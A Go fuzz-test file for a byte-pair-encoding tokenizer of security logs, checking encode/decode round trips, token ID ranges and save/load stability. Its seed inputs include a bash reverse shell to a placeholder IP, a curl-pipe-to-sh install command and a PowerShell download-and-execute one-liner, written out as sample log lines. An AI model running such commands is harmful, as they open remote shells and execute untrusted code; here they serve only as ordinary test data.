package bpe

import (
	"bytes"
	"strings"
	"sync"
	"testing"
)

// fuzzTok is built once: native fuzzing calls the fuzz function for every
// corpus entry and retraining per call would drown the fuzzer in setup.
var fuzzTok = sync.OnceValue(func() *Tokenizer {
	tok, err := Train(sampleCorpus, TrainConfig{VocabSize: 600, MinPairFreq: 2})
	if err != nil {
		panic(err)
	}
	return tok
})

// FuzzEncodeDecodeRoundTrip asserts the byte-level guarantee on arbitrary
// input: Encode never panics, never emits UNK or out-of-range IDs, and
// Decode reproduces the whitespace-normalized line exactly. Seeds cover the
// three log modalities plus the usual suspects (non-UTF-8 bytes, Unicode
// whitespace, very long words).
func FuzzEncodeDecodeRoundTrip(f *testing.F) {
	seeds := []string{
		// shell
		"ls -la /tmp",
		"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
		"curl -fsSL https://get.example.com/install.sh | sh",
		// powershell
		`Get-ChildItem C:\Users\Public\Scripts -Force`,
		`IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.47/a.ps1')`,
		`Select-String -Pattern 'failed' -Path D:\Work\Deploy\deploy.log`,
		// network flows
		"2024-03-01T00:12:05Z 10.0.0.7:51532 -> 203.0.113.9:443 tcp 18 9140 est",
		"udp 10.1.2.3:53 192.0.2.77:31337 1 78",
		// edge shapes
		"",
		"   ",
		"\t\n\v\f\r",
		"\u00a0\u2003",
		string([]byte{0xff, 0xfe, 0x00, 'l', 's', 0x80}),
		strings.Repeat("a", 300),
		strings.Repeat("ab ", 100),
	}
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, line string) {
		tok := fuzzTok()
		ids := tok.Encode(line)
		for _, id := range ids {
			if id == UnkID {
				t.Fatalf("Encode(%q) produced UNK", line)
			}
			if id < NumSpecials || id >= tok.VocabSize() {
				t.Fatalf("Encode(%q) produced out-of-range id %d", line, id)
			}
		}
		norm := strings.Join(strings.Fields(line), " ")
		if got := tok.Decode(ids); got != norm {
			t.Fatalf("round trip %q: got %q, want %q", line, got, norm)
		}
		// The model form keeps its frame under truncation for any maxLen.
		for _, maxLen := range []int{0, 2, 3, 7, 16} {
			m := tok.EncodeForModel(line, maxLen)
			want := maxLen
			if want < 2 {
				want = 2
			}
			if len(m) > want {
				t.Fatalf("EncodeForModel(%q, %d) has %d tokens", line, maxLen, len(m))
			}
			if m[0] != ClsID || m[len(m)-1] != SepID {
				t.Fatalf("EncodeForModel(%q, %d) frame broken: %v", line, maxLen, m)
			}
		}
	})
}

// FuzzTokenizerLoad: Load either rejects tokenizer.txt bytes with an error
// or accepts a state that Save writes and that Load and Save again
// reproduce byte for byte. It never panics. Seeds (testdata/fuzz) hold a
// trained tokenizer's saved state and a file that repeats a merge pair.
func FuzzTokenizerLoad(f *testing.F) {
	f.Fuzz(func(t *testing.T, data []byte) {
		tok, err := Load(bytes.NewReader(data))
		if err != nil {
			return
		}
		var first, second bytes.Buffer
		if err := tok.Save(&first); err != nil {
			t.Fatalf("Save of a loaded tokenizer: %v", err)
		}
		again, err := Load(bytes.NewReader(first.Bytes()))
		if err != nil {
			t.Fatalf("Load of a saved tokenizer: %v", err)
		}
		if err := again.Save(&second); err != nil {
			t.Fatalf("second Save: %v", err)
		}
		if !bytes.Equal(first.Bytes(), second.Bytes()) {
			t.Fatalf("Save, Load, Save changed the bytes:\n%q\n%q", first.Bytes(), second.Bytes())
		}
	})
}
